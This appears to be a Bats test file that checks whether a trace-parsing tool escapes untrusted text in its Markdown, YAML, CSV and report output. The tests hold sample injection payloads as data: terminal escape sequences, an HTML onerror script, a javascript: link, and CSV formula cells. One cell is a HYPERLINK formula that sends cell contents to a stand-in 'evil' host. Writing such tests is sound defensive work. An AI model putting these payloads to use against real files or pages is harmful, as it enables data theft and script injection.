load test_helper
load filter_helper

# Text that a terminal would obey, that hides, or that turns text around.
HOSTILE=$'\e]0;PWNED\a\e[2J\x7f\xc2\x9b2J\xc2\x85\xe2\x80\xae\xe2\x80\x8b\xe2\x81\xa6\r'

setup_file()
{
	find_python
}

# json TEXT: prints TEXT as JSON.
json()
{
	jq -Rs . <<<"$1" | sed 's/\\n"$/"/'
}

# harmless FILE...: fails when one holds a character of that kind.
harmless()
{
	python3 - "$@" <<-'END'
	import sys, unicodedata
	bad = 0
	for name in sys.argv[1:]:
	    with open(name, encoding="utf-8", errors="surrogateescape", newline="") as f:
	        for c in sorted(set(f.read()) - set("\n\t")):
	            if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
	                print(name, "holds %r" % c)
	                bad = 1
	sys.exit(bad)
	END
}

@test "the type and name of a step are text, not markup, in its heading" {
	cat >t <<-'END'
	{"trace_id":"t","iteration":0,"input":"a","output":"b","success":true,"observations":[{"trace_id":"t","type":"tool","name":"<img src=x onerror=alert(1)> ![t](http://evil.example/p.png) [c](javascript:alert(1)) `x` *y* &lt; a|b"},{"trace_id":"t","type":"]\n# no heading","name":"x\n---\n### Step 9: [tool] z"},{"trace_id":"t","type":"tool","name":"get_weather_v2"}]}
	END
	fl-parse t >md
	assert_equal "$(grep -c '^#' md)" 8
	# what is not escaped
	run grep '^### Step' md
	refute_output --regexp '(^|[^\\])[<>`*|&]'
	refute_output --regexp '[^\\]\]\('
	assert_output --partial '### Step 3: [tool] get_weather_v2'
}

@test "the front matter of a trace is YAML whatever its ids hold" {
	for text in $'d\x7f' $'c\xc2\x9bc' $'n\xc2\x85n' $'l\xe2\x80\xa8l' 'say "hi" \ ' $'\xf3\xa0\x80\x81' "$HOSTILE"; do
		h=$(json "$text")
		echo "{\"trace_id\":$h,\"iteration\":0,\"persona\":$h,\"input\":\"a\",\"success\":true,\"observations\":[]}" >t
		fl-parse t | sed -n '2,/^---$/p' | sed '$d' >front.yaml
		harmless front.yaml
		assert_equal "$(fl-yaml --documents front.yaml | jq -c '[.trace_id, .persona]')" \
			"$(jq -c '[.trace_id, .persona]' t)"
	done
}

@test "no cell of a CSV file is a formula" {
	for text in '=1+1' '+1' '-1' '@SUM(1)' $'\tx' $'\rx' '=HYPERLINK("http://evil/"&A1,"x")'; do
		h=$(json "$text")
		echo "{\"trace_id\":$h,\"iteration\":-1,\"persona\":$h,\"input\":$h,\"output\":$h,\"error\":$h,\"success\":true,\"observations\":[]}"
	done >t
	fl-parse -f csv t >csv
	python3 - <<-'END'
	import csv
	rows = list(csv.DictReader(open("csv", newline="")))
	assert len(rows) == 7, rows
	for row in rows:
	    for name in "trace_id", "persona", "input", "output", "error":
	        assert row[name][0] == "'" and row[name][1] in "=+-@\t\\", row
	    assert row["iteration"] == "-1", row
	END
}

@test "no text of a row acts in what fl-diff and fl-report write" {
	local h file

	h=$(python3 -c 'import json
print(json.dumps("x\n::error::y\n# z\nok 9\0\x0b\x1b[31m\x7f\x85\u2028\ufffe\u202e\U000e0041 \ud800 end"))')
	check="{\"name\":$h,\"type\":$h,\"score\":0,\"reason\":$h}"
	row="\"trace_id\":$h,\"run_id\":\"r\",\"input_id\":$h,\"iteration\":0,\"persona\":$h,\"input\":$h,\"output\":$h,\"duration_ms\":1"
	echo "{$row,\"success\":true,\"evaluation\":{\"pass\":true,\"checks\":[]}}" >base
	echo "{$row,\"success\":true,\"evaluation\":{\"pass\":false,\"checks\":[$check]}}" >new
	for format in text md; do
		fl-diff --fail-on never -f "$format" base new >"diff.$format" 2>/dev/null
	done
	for format in md github tap; do
		fl-report -f "$format" new >"report.$format"
	done
	# the entity of no width in Markdown is the program's own
	harmless diff.text diff.md report.md report.github report.tap
	run grep -E '^(# |::error::|ok 9)' diff.text diff.md report.md report.github report.tap
	assert_failure
	# what is after the NUL is there, too
	for file in diff.text diff.md report.md report.github report.tap; do
		assert_regex "$(<"$file")" 'u0000.*end'
	done
}
